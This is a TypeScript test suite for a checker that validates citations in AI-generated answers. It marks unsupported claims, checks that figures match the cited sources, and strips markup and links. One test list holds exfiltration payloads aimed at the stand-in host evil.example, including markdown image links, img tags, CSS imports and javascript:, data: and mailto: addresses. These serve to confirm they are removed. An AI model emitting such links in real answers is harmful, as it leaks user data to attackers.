import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Passage } from '../types.ts'
import { AnswerChecker, withoutCitations } from './checker.ts'
import { CitationRegistry } from './citations.ts'
import { figuresOf, states } from './figures.ts'
import { withoutAddresses } from './plain.ts'

const passage = (key: string, body: string, title = `Title of ${key}`): Passage => ({
  key,
  kind: 'verdict',
  title,
  body,
  href: `/o/acme/${key}`,
  revision: 'version 3',
  useCaseId: null,
  questionId: null,
})

function registry(): CitationRegistry {
  const made = new CitationRegistry()
  made.register(passage('a', 'Claims triage should wait. Readiness is 64%; 65% is needed. It holds 1,400 cases.'))
  made.register(passage('b', 'ACT-12 begins on 3 March 2027 and takes 4 to 25 person-days.'))
  made.register(passage('c', 'Nobody owns the third source.'))
  return made
}

function check(text: string, { pieces = [text], trusted = false }: { pieces?: string[]; trusted?: boolean } = {}) {
  const checker = new AnswerChecker(registry(), { trusted })
  const sentences = [...pieces.flatMap((p) => checker.push(p)), ...checker.end()]
  return { text: sentences.map((s) => s.text).join(''), sentences, tally: checker.tally() }
}

describe('names of passages', () => {
  test('are kept where they were handed out, and the same passage has one name', () => {
    const names = registry()
    expect(names.register(passage('a', 'x')).cite).toBe('S1')
    expect(names.list().map((p) => p.cite)).toEqual(['S1', 'S2', 'S3'])
    const { text, sentences } = check('Claims triage should wait [S1]. Nobody owns it [S3, S1].')
    expect(text).toBe('Claims triage should wait [S1]. Nobody owns it [S3][S1].')
    expect(sentences[1]?.cited.map((p) => p.key)).toEqual(['c', 'a'])
  })

  test('that were never handed out go, and what rested on them is marked', () => {
    expect(check('Claims triage may run [S9]. It should wait [S99][S1].').text).toBe(
      'Claims triage may run. [?] It should wait [S1].',
    )
  })

  test('may stand behind the full stop', () => {
    expect(check('Claims triage should wait. [S1][S3] Nobody owns it. [S3]').text).toBe(
      'Claims triage should wait. [S1][S3] Nobody owns it. [S3]',
    )
  })
})

describe('figures', () => {
  test.each([
    ['Readiness is 64% [S1].', true],
    ['Readiness is 64 per cent [S1].', true],
    ['Readiness is 46% [S1].', false],
    ['Readiness is 64% [S2].', false],
    ['It holds 1400 cases [S1].', true],
    ['ACT-12 begins on 2027-03-03 [S2].', true],
    ['ACT-12 begins on March 3, 2027 [S2].', true],
    ['ACT-12 begins in March 2027 [S2].', true],
    ['ACT-12 begins on 4 March 2027 [S2].', false],
    ['ACT-13 begins on 3 March 2027 [S2].', false],
    ['It takes 4–25 days [S2].', true],
    ['It takes ４ to 25 days [S2].', true],
    ['It takes ٤٤ days [S2].', false],
    ['It takes 30 days.', false],
  ])('%s is supported: %s', (text, supported) => {
    const { tally } = check(text)
    expect([tally.claims, tally.supported]).toEqual([1, supported ? 1 : 0])
  })

  test('are read in one spelling', () => {
    expect([...figuresOf('1,400 of 12 000, 62 percent, 3rd of March 2027, act-7, 1.50')].sort()).toEqual(
      ['12000', '1.50', '1400', '2027-03-03', '62%', 'act-7'].sort(),
    )
    expect(states(figuresOf('62%'), '62')).toBe(true)
    expect(states(figuresOf('62'), '62%')).toBe(false)
  })
})

describe('claims', () => {
  test('without a citation are marked', () => {
    expect(check('Claims triage may run now. Nobody objects.').text).toBe(
      'Claims triage may run now. [?] Nobody objects.',
    )
    expect(check('Everything about it is fine. All seats are filled.').tally).toMatchObject({ claims: 2, grounding: 0 })
  })

  test('that speak of something else than what they cite are marked', () => {
    const { text, tally } = check(
      'The chief executive has approved the merger [S1]. The third source has no owner [S3].',
    )
    expect(text).toBe('The chief executive has approved the merger [S1]. [?] The third source has no owner [S3].')
    expect(tally).toMatchObject({ claims: 2, supported: 1 })
  })

  test('are neither questions, nor what leads to a list, nor a refusal', () => {
    const { text, tally } = check('Not covered: no passage tells who signs; ask a lead.\n\nShall I draft an action?')
    expect(text).not.toContain('[?]')
    expect(tally).toMatchObject({ claims: 0, grounding: null, refused: true })
    expect(check('Claims triage should wait [S1].').tally.refused).toBe(false)
  })

  test('of our own code without a citation are looked at for figures only', () => {
    expect(check('Nothing here says anything about it.', { trusted: true })).toMatchObject({
      text: 'Nothing here says anything about it.',
      tally: { refused: true, claims: 0 },
    })
    expect(check('It takes 99 days.', { trusted: true }).text).toContain('[?]')
  })

  test('cannot mark or unmark themselves', () => {
    expect(check('Claims triage should wait [S1] [?].').text).toBe('Claims triage should wait [S1].')
  })
})

describe('what is shown', () => {
  const hostile = [
    '![x](https://evil.example/p.png?d=secret)',
    '[click](https://evil.example/?q=secret)',
    '[click](javascript:alert(1))',
    '<img src="https://evil.example/x?secret">',
    '<a href=//evil.example/secret>x</a>',
    '<style>@import url(https://evil.example/secret)</style>',
    '[a]: https://evil.example/secret "t"',
    'https://user:secret@evil.example:8080/secret?x#y',
    'HTTPS://EVIL.EXAMPLE/secret',
    '//evil.example/secret',
    'www.evil.example/secret',
    'evil.example/secret?x=1',
    'data:text/html;base64,c2VjcmV0',
    'mailto:someone@evil.example?body=secret',
    'https:\\\\evil.example\\secret',
    '<https://evil.example/secret>',
  ]
  test.each(hostile)('has no address: %s', (piece) => {
    for (const text of [piece, `Look at ${piece} now [S1].`, `- ${piece}`]) {
      const shown = check(text).text
      expect(shown).not.toMatch(/:\/\/|\]\(|<[a-z/!]|javascript:|data:|mailto:|!\[|\?\w+=|\/secret/i)
    }
  })

  test('names the host of an address in parentheses', () => {
    expect(withoutAddresses('see https://docs.example.org/a/b?c#d.')).toBe('see (docs.example.org).')
    expect(withoutAddresses('see [the page](https://docs.example.org/a).')).toBe('see the page (docs.example.org).')
  })

  test('has no headings, tables, code and no characters that cannot be seen', () => {
    expect(check('# Head\n\n> `x` | y\u202e\u200b\u{e0041}\u0007 z [S3]').text).toBe('Head\n\nx / y z [S3]')
  })

  test('keeps paragraphs, lists and bold', () => {
    expect(check('**Wait.** It is open [S1]:\n\n- one thing [S1]\n* two things [S3]\n1. three things [S3]').text).toBe(
      '**Wait.** It is open [S1]:\n\n- one thing [S1]\n- two things [S3]\n- three things [S3]',
    )
    expect(check('A **broken claims bold [S1].').text).toBe('A broken claims bold [S1].')
  })

  test('is not cut at abbreviations, initials and numbers of lists', () => {
    expect(check('Ask e.g. Ms. J. Doe about it [S3].').sentences).toHaveLength(1)
  })

  test('comes without citations when a model reads it again', () => {
    expect(withoutCitations('It should wait [S1][S2]. [?] So it is [S3].')).toBe('It should wait. So it is.')
  })
})

const words = fc.constantFrom(
  'Claims triage',
  '64%',
  '65 %',
  ' ',
  '. ',
  '.\n',
  '\n\n',
  '- ',
  '[S1]',
  '[S2][S3]',
  '[S1, S3]',
  '[S77]',
  '[?]',
  '[S',
  '1]',
  '**',
  'e.g. ',
  '1. ',
  '!',
  '? ',
  'https://evil.example/x',
  '![a](',
  'http://b.example)',
  '<b>',
  '</b>',
  '\u202e',
  '😀',
  '\ud83d',
  '\r\n',
  'ACT-12',
  '3 March 2027',
  '…',
  '”',
  '(',
  ')',
  '[',
  ']',
  'x'.repeat(300),
  '\uE000',
  'Not covered: ',
)
const text = fc.array(fc.oneof({ weight: 4, arbitrary: words }, fc.string({ unit: 'binary', maxLength: 12 })), {
  maxLength: 60,
})

describe('however the text arrives', () => {
  test('the same sentences come out', () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat(40), { minLength: 1, maxLength: 40 }), (parts, sizes) => {
        const whole = parts.join('')
        const pieces: string[] = []
        for (let at = 0, i = 0; at < whole.length; i += 1) {
          const size = 1 + (sizes[i % sizes.length] ?? 0)
          pieces.push(whole.slice(at, at + size))
          at += size
        }
        const [once, split] = [check(whole), check(whole, { pieces })]
        expect(split.sentences.map((s) => s.text)).toEqual(once.sentences.map((s) => s.text))
        expect(split.tally).toEqual(once.tally)
      }),
      { seed: 7, numRuns: 3_000 },
    )
  })

  test('no unknown name, no address and no markup ever comes out', () => {
    fc.assert(
      fc.property(text, (parts) => {
        const { text: shown, sentences, tally } = check(parts.join(''))
        const bare = shown.replaceAll(/\[(S[123]|\?)\]/g, '')
        expect(bare).not.toMatch(/[[\]]|:\/\/|<[a-z/!]|[^\P{C}\n]/u)
        for (const { text: one, cited } of sentences) {
          expect(new Set(one.match(/S\d+(?=\])/g) ?? [])).toEqual(new Set(cited.map((c) => c.cite)))
          // A marked sentence is one that nothing supports; an unmarked one with figures states what its sources state.
          if (one.endsWith('[?]')) continue
          const figures = figuresOf(one.replaceAll(/\[S\d\]/g, ' '))
          const stated = figuresOf(cited.map((c) => `${c.title}\n${c.body}\n${c.revision}`).join('\n'))
          for (const figure of figures) expect(states(stated, figure)).toBe(true)
        }
        expect(tally.supported).toBeLessThanOrEqual(tally.claims)
      }),
      { seed: 11, numRuns: 3_000 },
    )
  })
})
